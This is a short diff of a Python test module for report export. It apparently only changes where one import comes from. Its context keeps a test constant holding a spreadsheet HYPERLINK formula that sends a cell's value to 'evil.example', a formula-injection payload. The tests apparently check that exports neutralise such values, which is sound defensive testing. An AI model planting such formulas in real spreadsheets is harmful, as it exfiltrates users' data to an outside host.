@@ -6,7 +6,6 @@ from datetime import UTC, date, datetime
 
 import openpyxl
 
-from upstream.coding.workflow import code_workspace
 from upstream.evidence.records import ItemDraft
 from upstream.frameworks import load_codebook
 from upstream.reports import build_report_data, group_size, inert, render_html, render_xlsx
@@ -15,6 +14,7 @@ from upstream.reports.model import MatrixRow, Quote, QuoteGroup, ReportData
 from upstream.reports.safety import FEWER_THAN
 from upstream.reports.tables import report_tables
 from upstream.store import Store
+from upstream.workflows.coding import code_workspace
 
 HYPERLINK = '=HYPERLINK("http://evil.example/?d="&A1,"Click me")'
 
